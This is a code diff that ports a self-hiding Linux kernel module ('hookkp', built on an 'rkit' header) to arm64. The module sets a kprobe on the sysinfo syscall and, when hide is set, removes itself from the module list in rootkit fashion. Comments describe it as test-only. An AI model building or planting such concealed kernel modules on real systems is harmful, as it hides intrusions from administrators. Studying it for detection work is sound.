@@ -9,6 +9,9 @@
  * modules list and deletes its kobject, as hidekmod does.  With hide=0 it
  * is an ordinary module with a kprobe, and rmmod removes it.
  *
+ * Built for arm64 as hookkp64 (arm64/hookkp64.c): its module, /proc entry and
+ * kernel log lines are hookkp64's, its default sym __arm64_sys_sysinfo.
+ *
  * echo 1 >/proc/hookkp unregisters the kprobe and links a hidden module
  * back into both lists (not sysfs); it then cannot be unloaded (its sysfs
  * teardown would find no directory).  For testing only; loaded in a
@@ -18,7 +21,7 @@
 
 #include "rkit.h"
 
-static char *sym = "__x64_sys_sysinfo";
+static char *sym = RKIT_SYS(sysinfo);
 module_param(sym, charp, 0444);
 static int hide = 1;
 module_param(hide, int, 0444);
@@ -40,7 +43,7 @@ static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, lof
 		unregister_kprobe(&kp);
 	registered = false;
 	rkit_unhide();
-	pr_info("hookkp: kprobe removed, module listed\n");
+	pr_info(KBUILD_MODNAME ": kprobe removed, module listed\n");
 	return len;
 }
 
@@ -57,16 +60,16 @@ static int __init hookkp_init(void)
 	if (ret)
 		return ret;
 	registered = true;
-	pr_info("hookkp: kprobe on %s at %px, handler %px\n", sym, kp.addr, pre);
+	pr_info(KBUILD_MODNAME ": kprobe on %s at %px, handler %px\n", sym, kp.addr, pre);
 	if (!hide)
 		return 0;
-	if (!proc_create("hookkp", 0200, NULL, &ctl_ops)) {
+	if (!proc_create(KBUILD_MODNAME, 0200, NULL, &ctl_ops)) {
 		unregister_kprobe(&kp);
 		return -ENOMEM;
 	}
 	if (rkit_hide()) {
 		unregister_kprobe(&kp);
-		remove_proc_entry("hookkp", NULL);
+		remove_proc_entry(KBUILD_MODNAME, NULL);
 		return -ENOENT;
 	}
 	return 0;
